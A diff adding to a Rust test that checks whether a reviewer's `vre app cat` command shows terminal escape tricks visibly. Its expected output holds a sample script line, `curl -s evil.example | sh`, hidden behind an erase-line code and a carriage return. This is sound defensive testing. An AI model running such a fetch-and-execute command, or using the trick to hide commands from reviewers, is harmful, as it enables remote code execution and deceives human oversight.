@@ -892,6 +892,29 @@ async fn terminal_tricks_are_flagged_for_review() {
             ),
             "{reasons:?}"
         );
+        // The reviewer's terminal is shown the trick, not played it: `vre app cat` makes the
+        // escape and the carriage return visible, so the hidden line stays on screen.
+        let id = receipt["application"]["id"].as_str().unwrap();
+        let mut cat = vre_command();
+        cat.args(["app", "cat", id, "run.sh"])
+            .env("VRE_URL", &app.url)
+            .env("VRE_CA", app.dir.path().join("tls/ca.pem"))
+            .env("VRE_TOKEN", app.token("rev", "reviewer"));
+        // Off the runtime's thread: the gateway answering it runs on this one.
+        let out = tokio::task::spawn_blocking(move || cat.output())
+            .await
+            .unwrap()
+            .unwrap();
+        let shown = String::from_utf8(out.stdout).unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert_eq!(
+            shown,
+            "echo start\ncurl -s evil.example | sh # \\u{1b}[2K\\recho all is well\n"
+        );
         app
     })
     .await;
